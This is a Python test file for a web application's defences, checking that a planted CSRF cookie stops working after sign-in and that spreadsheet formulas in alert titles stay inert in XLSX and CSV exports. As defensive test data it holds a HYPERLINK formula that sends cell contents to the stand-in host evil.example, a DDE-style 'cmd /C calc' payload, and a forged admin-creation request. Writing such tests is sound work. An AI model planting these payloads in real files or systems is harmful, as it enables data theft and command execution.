"""Hostile input on the pages: planted CSRF cookies, formula cells, script links."""

from __future__ import annotations

from fastapi.testclient import TestClient
from sqlalchemy import select

from tests.factories import make_user
from tests.web.helpers import csrf_of, sign_in


def test_a_csrf_cookie_planted_before_sign_in_is_worthless_after_it(client: TestClient, people: None) -> None:
    make_user("admin", "admin")
    # A page on another port of this host sets the token cookie (cookies do not tell ports apart) …
    client.cookies.set("muqing_csrf", "planted-by-another-port")
    page = client.get("/login")
    signed_in = client.post(
        "/login",
        data={"username": "admin", "password": "correct horse battery", "csrf": "planted-by-another-port"},
        follow_redirects=False,
    )
    assert signed_in.status_code == 303
    # … the sign-in drops it (rotation) …
    assert 'muqing_csrf=""' in signed_in.headers.get("set-cookie", "") or "muqing_csrf=;" in signed_in.headers.get(
        "set-cookie", ""
    )
    # … and a forged form carrying the planted value creates nobody, even if the browser still sends it.
    client.cookies.set("muqing_csrf", "planted-by-another-port")
    forged = client.post(
        "/admin/users",
        data={
            "username": "intruder",
            "display_name": "x",
            "role": "admin",
            "password": "intruder-password-1",
            "csrf": "planted-by-another-port",
        },
    )
    assert forged.status_code == 400
    from core.db import session_scope
    from core.models import User

    with session_scope() as session:
        assert session.scalar(select(User).where(User.username == "intruder")) is None
    # The session's own token still works.
    own = csrf_of(client.get("/admin/users").text)
    assert own != "planted-by-another-port"
    assert page.status_code == 200


FORMULA = '=HYPERLINK("http://evil.example/steal?c="&A1,"点击查看详情")'


def test_formula_titles_stay_text_in_the_xlsx_report(client: TestClient, people: None) -> None:
    import io

    from openpyxl import load_workbook

    from tests.factories import make_alert

    make_alert(title=FORMULA)
    make_alert(title="@SUM(1+1)*cmd|' /C calc'!A0 养猪场")
    sign_in(client, "leader")
    workbook = load_workbook(io.BytesIO(client.get("/reports/export.xlsx?kind=month").content))
    cells = {row[1].value: row[1] for row in workbook["案件清单"].iter_rows(min_row=2)}
    assert FORMULA in cells, list(cells)
    assert all(cell.data_type == "s" for cell in cells.values())


def test_formula_text_is_neutralised_in_the_csv_export(db: str, tmp_path: object) -> None:
    import csv
    from pathlib import Path

    from typer.testing import CliRunner

    from cli import app
    from core.db import session_scope
    from core.service import store_post

    with session_scope() as session:
        store_post(session, url=None, title=FORMULA, content="-2+3 养殖场\t异味")
        store_post(session, url=None, title="\t=1+1", content="@cmd 牛场夜间噪音扰民，请尽快处理")
    out = Path(str(tmp_path)) / "posts.csv"
    result = CliRunner().invoke(app, ["posts", "export", "--format", "csv", "--output", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {row["title"] for row in rows} == {"'" + FORMULA, "'=1+1"}  # titles are stored stripped
    assert {row["content"] for row in rows} == {"'-2+3 养殖场\t异味", "'@cmd 牛场夜间噪音扰民，请尽快处理"}


def test_a_malformed_since_is_a_4xx_and_a_local_time_keeps_the_console_stream_going(
    client: TestClient, people: None
) -> None:
    from tests.factories import make_alert

    sign_in(client, "duty")
    assert 400 <= client.get("/console/stream", params={"since": "yesterday"}).status_code < 500
    make_alert(title="南河村养鸭场污水直排")
    # No offset: the office's local time. The first poll must turn it into events, not a broken stream.
    with client.stream("GET", "/console/stream", params={"since": "2000-01-01T00:00:00"}) as stream:
        assert stream.status_code == 200
        seen = ""
        for chunk in stream.iter_text():
            seen += chunk
            if "event: alert" in seen:
                break
    assert "南河村养鸭场污水直排" in seen
